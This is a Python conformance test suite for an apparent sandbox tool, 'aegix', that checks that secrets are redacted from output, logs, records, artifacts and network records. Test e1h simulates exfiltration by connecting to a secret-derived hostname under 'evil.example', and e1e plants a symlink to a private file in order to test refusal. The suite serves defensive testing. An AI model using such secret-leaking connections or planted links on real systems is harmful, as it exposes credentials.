"""E1: declared secrets. Inside they are there; in nothing that leaves the sandbox are they."""

import base64
import json
import os
import time
import urllib.parse

import harness

TOKEN = 'tok-7f3a/+&"quoted"\\ 9Zé'
LINES = "-----BEGIN THING-----\nMIIEvQconformance\nAQEFhushhush\n-----END THING-----\n"
ENV = {"GIVEN": TOKEN, "SHORTER": "prefix-word", "LONGER": "prefix-word-and-more"}
ASKED = ["--secret", "TOKEN=env:GIVEN", "--secret", "A=env:SHORTER", "--secret", "B=env:LONGER"]


def spellings(value):
    """What must not be found: the value, and what the usual tools make of it."""
    raw = value.encode()
    found = {raw, raw.hex().encode(), raw.hex().upper().encode(), json.dumps(value).strip('"').encode(),
             json.dumps(value, ensure_ascii=False).strip('"').encode(), urllib.parse.quote(value).encode(),
             urllib.parse.quote_plus(value).encode(), urllib.parse.quote(value, safe="").encode()}
    for offset in range(3):
        # Without the characters that hold bits of the neighbours.
        text = base64.b64encode(b"x" * offset + raw)
        found.add(text[4 if offset else 0:len(text) // 4 * 4 - 4])
        found.add(base64.urlsafe_b64encode(b"x" * offset + raw)[4 if offset else 0:-4])
    return found


def absent(t, values, but=()):
    """In no file of the state directory but the layers, which are the command's own; nor in the name of one."""
    words = set().union(*(spellings(value) for value in values))
    for parent, directories, names in os.walk(t.state):
        directories[:] = [name for name in directories if name != "layer"]
        for name in names:
            if name in but:
                continue
            with open(os.path.join(parent, name), "rb") as f:
                text = f.read()
            for word in words:
                t.check(word not in text and word not in name.encode(), f"{word!r} is in {os.path.relpath(os.path.join(parent, name), t.state)}")


SHOW = """
import base64, json, os, sys, time, urllib.parse
t = os.environ["TOKEN"]
raw = t.encode()
out = sys.stdout.buffer
def say(b): out.write(b + b"\\n"); out.flush()
for b in (raw, raw.hex().encode(), raw.hex().upper().encode(), json.dumps(t).encode(), json.dumps(t, ensure_ascii=False).encode(),
          urllib.parse.quote(t).encode(), urllib.parse.quote_plus(t).encode(), urllib.parse.quote(t, safe="").encode(), repr(raw).encode()):
    say(b)
for n in range(3):
    say(base64.b64encode(b"x" * n + raw)); say(base64.b64encode(b"x" * n + raw + b"yz")); say(base64.urlsafe_b64encode(b"x" * n + raw))
    say(base64.encodebytes(b"x" * (50 + n) + raw + b"y" * 50))
for cut in (1, 5, 9, len(raw) - 1):
    out.write(raw[:cut]); out.flush(); time.sleep(0.15); say(raw[cut:])
for byte in raw:
    out.write(bytes([byte])); out.flush()
say(b"")
out.write(b"#" * 262140 + raw + b"#" * 70000); say(b"")
sys.stderr.write("to stderr " + t + "\\n")
say(os.environ["A"].encode() + b" " + os.environ["B"].encode())
say(b"end")
"""


def e1a(t):
    """declared secrets, printed in every spelling and in pieces: not in output, logs, events, record"""
    t.only_aegix()
    bare = t.outside("/usr/bin/python3", "-c", SHOW, env={"TOKEN": TOKEN, "A": "1", "B": "2"})
    for word in spellings(TOKEN):
        t.check(word in bare.out.replace(b"\n", b"") + bare.out, f"the probe is blunt: {word!r} isn't printed outside")
    inside = t.run("/usr/bin/python3", "-c", "import os; print(len(os.environ['TOKEN']), len(os.environ['A']))", env=ENV, options=ASKED)
    t.check(inside.text == f"{len(TOKEN)} {len('prefix-word')}\n", f"the secret isn't inside: {inside}")
    told = t.run("/usr/bin/python3", "-c", SHOW, env=ENV, options=ASKED)
    t.ran(told)
    for word in spellings(TOKEN) | {b"prefix-word"}:
        t.check(word not in told.out.replace(b"\n", b"") and word not in told.out + told.err, f"{word!r} comes out")
    t.check(told.out.endswith(b"[redacted:A] [redacted:B]\nend\n"), f"a value that begins like another: {told.out[-60:]!r}")
    t.check(b"#[redacted:TOKEN]#" in told.out, "the value isn't replaced in the middle of a long write")
    streams = (told.record or {}).get("streams", {})
    counted = told.out.count(b"[redacted:")
    t.check(streams["stdout"]["redacted"] == counted and streams["stderr"]["redacted"] == 1 and streams["redacted"] == counted + 1,
            f"{counted} replacements, counted {streams}")
    t.check(not streams["stdout"]["truncated"], "a log that is shorter for redaction counts as truncated")
    raw = t.run("/usr/bin/python3", "-c", SHOW, env=ENV, options=ASKED + ["--raw-stdout"])
    t.check(TOKEN.encode() in raw.out and TOKEN.encode() not in raw.err, "--raw-stdout is of stdout, and of no more")
    shown = t.aegix("run", "--state-dir", t.state, "--workspace", t.workspace, *ASKED, "--json", "--", "/usr/bin/python3", "-c", SHOW, env=ENV)
    t.check("[redacted:TOKEN]" in json.loads(shown.out)["streams"]["stdout"]["text"], "--json has no text")
    for word in spellings(TOKEN):
        t.check(word not in shown.out, f"{word!r} is in the --json document")
    absent(t, [TOKEN, "prefix-word"])


def e1b(t):
    """a secret in argv, labels, names, patterns, paths: the caller's words are recorded without it"""
    t.only_aegix()
    value = "hush/argv=31337"
    policy = f'[files]\ndeny = ["**/{value}", "x-{value}"]\n[env]\nset = {{ HELD = "a {value} b" }}\n[workspace]\nprotect = ["p-{value}"]\n'
    asked = ["--secret", "S=env:GIVEN", "--label", f"k={value}", "--parent", value, "--env", f"E={value}"]
    env = {"GIVEN": value}
    t.run("/bin/echo", value, f"--token={value}", env=env, options=asked, policy=policy)
    made = t.sh(f'/bin/echo {value} >/dev/null; mkdir -p hush; echo "$S" >content; ln -s "$S" link; sh -c ": $S"; /nonexistent/$S; exit 3', env=env, options=asked, policy=policy)
    t.check(made.code == 3, f"{made}")
    t.run(f"/nonexistent/{value}", env=env, options=asked, policy=policy)
    t.run("/usr/bin/python3", "-c", "import os; os.execv('/bin/echo', ['echo', 'x' * 16350 + os.environ['S']])", env=env, options=asked, policy=policy)
    t.sh("sleep 5 # " + value, env=env, options=asked, policy=policy, timeout=1)
    plan = t.aegix("plan", "--state-dir", t.state, "--workspace", t.workspace, *asked, "--cmd", f"echo {value}", env=env)
    plan_json = t.aegix("plan", "--state-dir", t.state, "--workspace", t.workspace, *asked, "--json", "--cmd", f"echo {value}", env=env)
    t.check(plan.code == 0 and b"secrets    S" in plan.out and json.loads(plan_json.out), f"plan doesn't name the secret: {plan}")
    for what in (plan, plan_json):
        t.check(value.encode() not in what.out + what.err, "the value is in the plan")
    for command in (["show", "last"], ["show", "last", "--json"], ["history"], ["history", "--json"]):
        told = t.aegix(command[0], "--state-dir", t.state, *command[1:], env=env)
        t.check(value.encode() not in told.out + told.err, f"the value is in {command}")
    t.check(len(t.run_ids()) == 5, f"runs without a record: {len(t.run_ids())}")
    # changes.jsonl has the link's real target: an apply goes by it.
    absent(t, [value], but=("changes.jsonl",))
    changes = {change["path"]: change for change in (made.record or {}).get("changes", [])}
    t.check(changes["link"]["after"]["target"] == "[redacted:S]", f"the link's target in the record: {changes['link']}")
    t.check("secret" in changes["content"]["flags"] and "secret" in changes["link"]["flags"], f"not flagged: {changes}")


def e1c(t):
    """on a terminal and over a prompt: redacted there, too, and nothing held back for ever"""
    t.only_aegix()
    terminal = harness.Terminal()
    try:
        shown = terminal.run(t.box, ["/bin/sh", "-c", 'echo "is $TOKEN"; printf "%s" "$TOKEN" | base64; test -t 1 && echo tty'], t, env=ENV, options=ASKED)
        t.check(b"is [redacted:TOKEN]" in shown.out and b"tty" in shown.out, f"on a terminal: {shown.out!r}")
        for word in spellings(TOKEN):
            t.check(word not in shown.out.replace(b"\r\n", b""), f"{word!r} is on the terminal")
        t.check(terminal.settings_kept(), "the terminal's settings aren't as before")
    finally:
        terminal.close()
    # A prompt that ends as a value begins, whose answer the command waits for.
    child = t.box.spawn(["/bin/sh", "-c", "printf 'name: tok'; read x; echo got $x"], t, stdin=-1, env=ENV, options=ASKED)
    prompt, begun = b"", time.monotonic()
    while len(prompt) < 9 and time.monotonic() - begun < 10:
        prompt += os.read(child.stdout.fileno(), 100)
    waited = time.monotonic() - begun
    t.check(prompt == b"name: tok" and waited < 5, f"the prompt came after {waited:.2f} s as {prompt!r}")
    out, _ = child.communicate(b"you\n", timeout=30)
    t.check(out == b"got you\n" and child.returncode == 0, f"after the prompt: {out!r}, {child.returncode}")
    absent(t, [TOKEN])


def e1d(t):
    """as a file in memory: read-only for its owner, gone with the run; on no disk"""
    t.only_aegix()
    t.mkdir("hidden")
    place = t.file("hidden/key", LINES, 0o600)
    options = ["--secret-file", f"KEY=file:{place}", "--secret", f"VALUE=file:{place}"]
    told = t.sh('stat -c "%a %F" "$KEY"; echo "$KEY"; cat "$KEY"; wc -c <"$KEY"; echo x >"$KEY"; echo x >/run/secrets/more; rm -f "$KEY"; ls /run/secrets;'
                'grep " / " /proc/self/mounts | cut -d" " -f3; grep MII "$KEY"; cat "$KEY" | tr "\\n" "\\r"', options=options)
    lines = told.text.splitlines()
    t.check(lines[:2] == ["400 regular file", "/run/secrets/KEY"], f"the file: {told}")
    t.check(f"\n{len(LINES)}\n" in told.text, f"it isn't the source's length: {told}")
    t.check("KEY" in lines and "tmpfs" in lines and "[redacted:" in told.text, f"{told}")
    for word in ("MIIEvQconformance", "AQEFhushhush"):
        t.check(word not in told.text, f"a line of the key comes out: {told}")
    beside = t.sh("cat /run/secrets/KEY", env={}, options=[])
    t.check(beside.code != 0, "the next run has the file")
    absent(t, ["MIIEvQconformance", "AQEFhushhush", LINES])
    t.check(not any("MIIEvQ" in open(os.path.join(parent, name), errors="replace").read()
                    for parent, _, names in os.walk(t.state) for name in names if "cache" not in parent), "the key is in the state directory")


def e1e(t):
    """who may name secrets: not an aegix.toml that nobody trusts, nor a link that a run planted"""
    t.only_aegix()
    asks = 'version = 1\n[secrets]\nX = "env:GIVEN"\n'
    t.file("workspace/aegix.toml", asks)
    refused = t.sh("echo $X", env=ENV)
    t.check(refused.code == 125 and b"aegix policy trust" in refused.err and TOKEN.encode() not in refused.err, f"the workspace names a secret: {refused}")
    os.unlink(os.path.join(t.workspace, "aegix.toml"))
    given = t.sh("echo ${#X}", env=ENV, policy='[secrets]\nX = "env:GIVEN"\n')
    t.check(given.code == 0 and given.text.strip().isdigit(), f"the policy's own: {given}")
    locked = t.sh("true", env=ENV, policy='lock = ["secrets"]\n[secrets]\nX = "env:GIVEN"\n', options=["--secret", "Y=env:SHORTER"])
    t.check(locked.code == 125 and b"locked" in locked.err, f"--secret past a lock: {locked}")
    raw = t.sh("true", env=ENV, policy='lock = ["secrets"]\n[secrets]\nX = "env:GIVEN"\n', options=["--raw-stdout"])
    t.check(raw.code == 125 and b"locked" in raw.err, f"--raw-stdout past a lock: {raw}")
    for words, what in (("X=env:UNSET", b"$UNSET"), ("X=file:/nonexistent/key", b"/nonexistent/key"), ("X=file:/dev/null", b"regular file"),
                        ("X=env:TINY", b"fewer than 4"), ("X=env:EMPTY", b"empty"), ("PATH=env:GIVEN", b"PATH"), ("X=plain-value-hush", b"command line"), ("x y=env:GIVEN", b"NAME")):
        told = t.sh("true", env={**ENV, "TINY": "abc", "EMPTY": ""}, options=["--secret", words])
        t.check(told.code == 125 and what in told.err and b"plain-value-hush" not in told.err and TOKEN.encode() not in told.err, f"--secret {words}: {told}")
    t.mkdir("hidden")
    hidden = t.file("hidden/private", "host-private-hush\n", 0o600)
    os.symlink(hidden, os.path.join(t.workspace, "planted"))
    for name in ("planted", os.path.join(t.workspace, "planted")):
        told = t.aegix("run", "--state-dir", t.state, "--workspace", t.workspace, "--secret", f"X=file:{t.workspace}/planted", "--cmd", "printf %s $X | rev")
        t.check(told.code == 125 and b"host-private" not in told.out[::-1] + told.out, f"a planted link as a secret ({name}): {told}")
    t.file("workspace/honest", "honest-value\n")
    told = t.sh("echo ${#X}", options=["--secret", f"X=file:{t.workspace}/honest"])
    t.check(told.text == "12\n", f"a file of the workspace: {told}")


def e1f(t):
    """past the log's bound, killed, and out of memory: what reaches the caller is redacted all the way"""
    t.only_aegix()
    script = "import os, sys\nfor i in range(40):\n sys.stdout.write('.' * 9000 + os.environ['TOKEN'] + '\\n')\n sys.stdout.flush()\n"
    told = t.run("/usr/bin/python3", "-c", script, env=ENV, options=ASKED, policy='[limits]\noutput = "20KB"\n')
    t.ran(told)
    t.check(told.out.count(b"[redacted:TOKEN]") == 40 and TOKEN.encode() not in told.out, f"past the bound: {told.out.count(b'[redacted:TOKEN]')} of 40")
    log = open(os.path.join(told.run_dir, "stdout.log"), "rb").read()
    stream = told.record["streams"]["stdout"]
    t.check(len(log) == 20000 == stream["captured"] and stream["truncated"] and stream["redacted"] == 40, f"the log: {len(log)} {stream}")
    killed = t.run("/usr/bin/python3", "-c", "import os, sys, time\nsys.stdout.write(os.environ['TOKEN'][:-1])\nsys.stdout.flush()\nsys.stdout.write(os.environ['A'])\nsys.stdout.flush()\ntime.sleep(60)", env=ENV, options=ASKED, timeout=1)
    t.check(killed.code == 124 and b"[redacted:A]" in killed.out, f"killed: {killed}")
    absent(t, [TOKEN, "prefix-word"])


def e1g(t):
    """artifacts and --out: the copies are without the secret, and say so; none has it in its name"""
    t.only_aegix()
    out = t.mkdir("out")
    script = 'mkdir d; echo "a $TOKEN b $TOKEN" >d/text; printf "\\0bin%s\\0" "$TOKEN" >d/binary; echo fine >d/fine; printf %s "$TOKEN" | base64 -w0 >d/coded; echo x >"d/$A"'
    told = t.sh(script, env=ENV, options=ASKED + ["--artifact", "d", "--out", out])
    t.ran(told)
    listed = {one["path"]: one for one in told.record["artifacts"]}
    t.check({name: one["redacted"] for name, one in listed.items()} == {"d/text": 2, "d/binary": 1, "d/fine": 0, "d/coded": 1, "d/[redacted:A]": 0},
            f"artifacts: {listed}")
    t.check(listed["d/[redacted:A]"]["skipped"] == "secret", f"a name with a secret: {listed}")
    for place in (out, os.path.join(told.run_dir, "artifacts")):
        t.check(t.read(os.path.join(place, "d/text")) == "a [redacted:TOKEN] b [redacted:TOKEN]\n", f"the copy in {place}")
        t.check(sorted(os.listdir(os.path.join(place, "d"))) == ["binary", "coded", "fine", "text"], f"copies: {os.listdir(place + '/d')}")
        for name in os.listdir(os.path.join(place, "d")):
            with open(os.path.join(place, "d", name), "rb") as f:
                text = f.read()
            t.check(not any(word in text for word in spellings(TOKEN)), f"the secret is in the copy {name}")
    # The list of changes has the name of the file as it is: an apply goes by it.
    absent(t, [TOKEN, "prefix-word"], but=("changes.jsonl",))


def e1h(t):
    """a secret as a name that is looked up and connected to: the network's record is without it"""
    t.only_aegix()
    script = ("import os, socket\n"
              "for name in (os.environ['A'] + '.evil.example', 'far.example'):\n"
              "  try: socket.create_connection((name, 80), timeout=5)\n"
              "  except OSError as e: print('refused')\n")
    policy = '[network]\nmode = "allow"\nallow = ["only.example"]\n'
    told = t.run("/usr/bin/python3", "-c", script, env=ENV, options=ASKED, policy=policy, deadline=60)
    t.ran(told)
    t.check(told.text == "refused\nrefused\n", f"the lookups: {told}")
    names = {one["name"] for one in told.record["network"]}
    t.check({"[redacted:A].evil.example", "far.example"} <= names, f"the names of the lookups: {names}")
    absent(t, ["prefix-word"])
